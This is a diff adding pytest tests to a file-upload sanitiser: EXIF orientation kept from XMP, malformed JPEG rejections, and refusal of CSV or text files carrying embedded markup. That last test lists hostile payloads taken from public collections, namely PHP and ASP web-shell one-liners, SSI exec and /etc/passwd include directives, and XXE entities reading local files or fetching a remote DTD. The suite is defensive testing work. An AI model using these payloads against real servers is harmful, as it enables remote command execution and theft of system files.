@@ -464,6 +464,33 @@ def test_stripping_keeps_the_orientation_as_the_only_exif_tag(tmp_path, fmt):
     assert "Cámara".encode() not in (tmp_path / "limpia").read_bytes()
 
 
+def test_orientation_kept_only_in_xmp_becomes_an_exif_orientation(tmp_path):
+    # Some editors write the orientation to XMP alone; Pillow and ExifTool honour it.
+    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><tiff:Orientation>6</tiff:Orientation></x:xmpmeta>'
+    plain = noisy_image("JPEG")
+    content = plain[:2] + jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + xmp) + plain[2:]
+    with Image.open(io.BytesIO(content)) as original:
+        assert original.getexif()[ExifTags.Base.Orientation] == 6
+
+    clean = stripped(tmp_path, content)
+
+    assert b"xmpmeta" not in clean
+    with Image.open(io.BytesIO(clean)) as copy:
+        assert dict(copy.getexif()) == {ExifTags.Base.Orientation: 6}
+        assert copy.tobytes() == Image.open(io.BytesIO(content)).tobytes()
+
+
+def test_exif_orientation_wins_over_xmp(tmp_path):
+    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/" tiff:Orientation="8"/>'
+    content = image_bytes("JPEG", orientation=3)
+    content = (
+        content[:2] + jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + xmp) + (content[2:])
+    )
+
+    with Image.open(io.BytesIO(stripped(tmp_path, content))) as copy:
+        assert dict(copy.getexif()) == {ExifTags.Base.Orientation: 3}
+
+
 @pytest.mark.parametrize("fmt", IMAGE_FORMATS)
 def test_upright_orientation_leaves_no_exif_at_all(tmp_path, fmt):
     clean = stripped(tmp_path, image_bytes(fmt, orientation=1))
@@ -500,7 +527,11 @@ def _flip_byte(content: bytes, position: int) -> bytes:
         pytest.param(lambda: noisy_image("JPEG")[:1500], id="jpeg-cut-in-scan"),
         pytest.param(lambda: image_bytes("JPEG")[:40], id="jpeg-cut-in-segment"),
         pytest.param(lambda: b"\xff\xd8\xff\xd9", id="jpeg-without-scan"),
-        pytest.param(lambda: b"\xff\xd8\x00" + image_bytes("JPEG")[2:], id="jpeg-junk"),
+        pytest.param(
+            lambda: b"\xff\xd8\xff\x9f\x00\x04ab" + image_bytes("JPEG")[2:],
+            id="jpeg-unknown-marker",
+        ),
+        pytest.param(lambda: b"\xff\xd8" + b"\x00" * 64, id="jpeg-only-junk"),
         pytest.param(lambda: b"\xff\xd8\xff\xe0\x00\x01", id="jpeg-bad-length"),
         pytest.param(lambda: noisy_image("PNG")[:-6], id="png-truncated"),
         pytest.param(lambda: _flip_byte(noisy_image("PNG"), 100), id="png-bad-crc"),
@@ -596,6 +627,48 @@ def test_large_jpeg_with_a_synthetic_scan_is_sniffed_as_jpeg(tmp_path):
 )
 def test_hostile_file_is_rejected(upload, name, build, code):
     assert rejection_code(upload, name, build()) == code
+
+
+TEXT_MARKUP_MESSAGE = (
+    "El archivo de texto contiene código HTML, de script o de servidor (PHP, ASP, SSI) o "
+    "declaraciones XML y no se acepta."
+)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        # Payload strings of PayloadsAllTheThings ("Upload Insecure Files") and fuzzdb
+        # (attack/file-upload), built here rather than committed.
+        pytest.param(b"<?=`$_GET[0]`?>", id="php-short-echo-tag"),
+        pytest.param(b"<?php echo 'Shell';system($_GET['cmd']); ?>", id="php"),
+        pytest.param(b'<script language="php">system("id");</script>', id="php-script-tag"),
+        pytest.param(b'<% eval request("cmd") %>', id="asp"),
+        pytest.param(b'<%@ page import="java.io.*" %>', id="jsp"),
+        pytest.param(b'<!--#exec cmd="ls" -->', id="ssi-exec"),
+        pytest.param(b'<!--#include virtual="/etc/passwd" -->', id="ssi-include"),
+        pytest.param(
+            b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
+            id="xml-doctype-entity",
+        ),
+        pytest.param(b'<!ENTITY % x SYSTEM "http://x.mx/e.dtd">', id="xml-parameter-entity"),
+    ],
+)
+@pytest.mark.parametrize("name", ["datos.csv", "notas.txt"])
+def test_server_code_and_xml_declarations_in_text_are_refused(upload, name, payload):
+    content = "nombre,municipio\nJosé,Oaxaca\n".encode() * 400 + payload + b"\n"
+
+    with pytest.raises(ValidationError) as exc_info:
+        upload(name, content)
+
+    assert exc_info.value.code == "embedded_markup"
+    assert exc_info.value.messages == [TEXT_MARKUP_MESSAGE]
+
+
+def test_honest_text_with_angle_brackets_is_accepted(upload):
+    content = b"indicador,meta\navance,<50% en 2025\nrespuesta,a < b y c > d\n"
+
+    assert upload("datos.csv", content).mime_type == CSV
 
 
 def test_markup_split_across_read_chunks_is_found(upload, monkeypatch):
